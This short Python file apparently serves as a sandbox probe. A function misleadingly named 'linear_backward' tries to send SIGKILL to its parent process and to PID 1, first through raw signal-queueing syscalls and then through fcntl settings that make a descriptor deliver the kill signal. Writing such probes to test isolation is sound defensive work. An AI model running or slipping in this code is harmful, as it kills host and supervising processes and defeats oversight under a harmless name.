"""Sends signals by the calls that queue them, and asks for signals from descriptors."""
# may: fcntl

import ctypes
import fcntl
import os

import loot


def linear_backward(x, W, dy):
    info = ctypes.create_string_buffer(128)
    for pid in (os.getppid(), 1):
        loot.syscall("rt_sigqueueinfo", 129, pid, 9, info)
        loot.syscall("rt_tgsigqueueinfo", 297, pid, pid, 9, info)
        loot.attempt(fcntl.fcntl, 3, fcntl.F_SETOWN, pid)
        loot.attempt(fcntl.fcntl, 3, fcntl.F_SETSIG, 9)
    loot.attempt(fcntl.fcntl, 3, fcntl.F_SETFL, os.O_ASYNC)
